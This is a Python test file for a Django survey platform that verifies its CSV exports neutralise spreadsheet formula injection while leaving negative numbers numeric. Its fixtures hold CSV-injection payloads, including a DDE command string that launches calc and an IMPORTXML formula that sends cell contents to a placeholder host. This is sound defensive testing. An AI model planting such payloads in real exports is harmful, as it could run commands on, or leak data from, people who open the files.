"""CSV injection: every CSV the site writes neutralises cells that a spreadsheet would run
as a formula (OWASP "CSV injection"), and leaves numbers, including negative ones, as
numbers. Read back with the csv module, as a spreadsheet would split them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from analysis.spreadsheet import (
    cell_for_spreadsheet,
    frame_for_spreadsheet,
    text_for_spreadsheet,
)
from surveys.models import Article, Question, Study
from tests.analysis.conftest import make_participant
from tests.analysis.test_commands import run
from tests.factories import QuestionFactory

pytestmark = pytest.mark.django_db

PANEL_ID = '=HYPERLINK("http://x","y")'
# Free-text answers, one participant each.
HOSTILE = {
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(A1)",
    "minus": "-2+3",
    "tab": "\t=1+1",
}
TITLE = '=IMPORTXML(CONCAT("http://x/?",A2),"//a")'
QUESTION_TEXT = "-1+1 How believable is this article?"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|", "'+1+cmd|"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("  =1+2", "'  =1+2"),  # spreadsheets skip the blanks before a formula
        ("-2", "-2"),  # a number, not a formula
        ("+1", "+1"),
        ("-0.5", "-0.5"),
        ("1e-3", "1e-3"),
        ("yes", "yes"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_for_spreadsheet_prefixes_formulas_only(text, expected):
    assert text_for_spreadsheet(text) == expected


def test_cells_that_are_not_text_are_left_as_they_are():
    assert cell_for_spreadsheet(-0.5) == -0.5
    assert cell_for_spreadsheet(-2) == -2
    assert cell_for_spreadsheet(None) is None
    assert cell_for_spreadsheet(True) is True


def test_frame_keeps_numeric_columns_numeric():
    frame = pd.DataFrame(
        {"value": ["=1+1", "-2", None], "value_numeric": [-0.5, -2.0, None], "n": [1, -1, 3]}
    )
    safe = frame_for_spreadsheet(frame)
    assert safe["value"].tolist()[:2] == ["'=1+1", "-2"]
    assert pd.isna(safe["value"].iloc[2])
    assert safe["value_numeric"].dtype == float
    assert safe["n"].tolist() == [1, -1, 3]
    assert frame["value"].iloc[0] == "=1+1"  # the input is not changed


# ---------------------------------------------------------------------------------------
# Every CSV of a study with hostile text in it


@pytest.fixture
def hostile_study(live_study: Study) -> Study:
    QuestionFactory.create(
        study=live_study, key="comment", kind=Question.Kind.FREE_TEXT, text="Anything else?"
    )
    people = [
        make_participant(live_study, "real", [{"credible": "yes", "comment": text}])
        for text in HOSTILE.values()
    ]
    # A Likert answer below zero is a number and must stay one.
    make_participant(live_study, "generated", [{"believable": "-2", "comment": "-0.5"}])
    people[0].panel_pid = PANEL_ID
    people[0].save(update_fields=["panel_pid"])
    Article.objects.filter(conditions__study=live_study).update(title=TITLE)
    Question.objects.filter(study=live_study, key="believable").update(text=QUESTION_TEXT)
    return live_study


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(text: str, *, expected: list[str]) -> None:
    """No cell would run as a formula, and each of ``expected`` (hostile text that the
    CSV must carry) is there, behind an apostrophe."""
    cells = [cell for row in _rows(text) for cell in row]
    for cell in cells:
        assert text_for_spreadsheet(cell) == cell or cell.startswith("'"), cell
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
    for hostile in expected:
        assert "'" + hostile in cells, (hostile, cells)
        assert hostile not in cells


def _staff() -> tuple[object, APIClient]:
    user = get_user_model().objects.create_user(
        "analyst", password="pw", is_staff=True, is_superuser=True
    )
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return user, api


ANSWERS = [PANEL_ID, *HOSTILE.values()]


def test_long_export_command_neutralises_formulas(hostile_study, tmp_path):
    target = tmp_path / "long.csv"
    run("export_responses", hostile_study.slug, "-o", str(target))
    text = target.read_text(encoding="utf-8")
    _assert_no_formula(text, expected=ANSWERS)
    header, *rows = _rows(text)
    believable = [row for row in rows if row[header.index("question_key")] == "believable"]
    assert [row[header.index("value")] for row in believable] == ["-2"]
    assert [row[header.index("value_numeric")] for row in believable] == ["-2.0"]
    assert "-0.5" in [row[header.index("value")] for row in rows]


def test_wide_export_command_neutralises_formulas(hostile_study, tmp_path):
    target = tmp_path / "wide.csv"
    run("export_responses", hostile_study.slug, "--format", "wide", "-o", str(target))
    _assert_no_formula(target.read_text(encoding="utf-8"), expected=ANSWERS)


def test_manifest_and_codebook_neutralise_formulas(hostile_study, tmp_path):
    manifest = tmp_path / "manifest.csv"
    run("export_responses", hostile_study.slug, "--format", "manifest", "-o", str(manifest))
    _assert_no_formula(manifest.read_text(encoding="utf-8"), expected=[TITLE])
    codebook = tmp_path / "codebook.csv"
    run("export_responses", hostile_study.slug, "--format", "codebook", "-o", str(codebook))
    text = codebook.read_text(encoding="utf-8")
    _assert_no_formula(text, expected=[])
    assert any(cell.startswith("'" + QUESTION_TEXT) for row in _rows(text) for cell in row)


@pytest.mark.parametrize("name", ["analysis:export", "analysis:export_wide"])
def test_results_page_downloads_neutralise_formulas(client, hostile_study, name):
    user, _ = _staff()
    client.force_login(user)
    response = client.get(reverse(name, args=[hostile_study.slug]))
    assert response.status_code == 200
    _assert_no_formula(b"".join(response.streaming_content).decode(), expected=ANSWERS)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("api:participant-list", [PANEL_ID]),
        ("api:response-list", ANSWERS),
        ("api:article-list", [TITLE]),
    ],
)
def test_api_csv_neutralises_formulas(hostile_study, name, expected):
    _, api = _staff()
    response = api.get(reverse(name, args=[hostile_study.slug]), {"format": "csv"})
    assert response.status_code == 200
    _assert_no_formula(response.content.decode(), expected=expected)


def test_api_json_keeps_the_answers_as_given(hostile_study):
    # Neutralising is for spreadsheets: JSON (and Parquet) carry the value as stored.
    _, api = _staff()
    response = api.get(reverse("api:participant-list", args=[hostile_study.slug]))
    assert PANEL_ID in [row["panel_pid"] for row in response.json()["results"]]


def test_parquet_keeps_the_answers_as_given(hostile_study, tmp_path: Path):
    target = tmp_path / "long.parquet"
    run("export_responses", hostile_study.slug, "--format", "parquet", "-o", str(target))
    values = set(pd.read_parquet(target)["value"])
    assert set(HOSTILE.values()) <= values
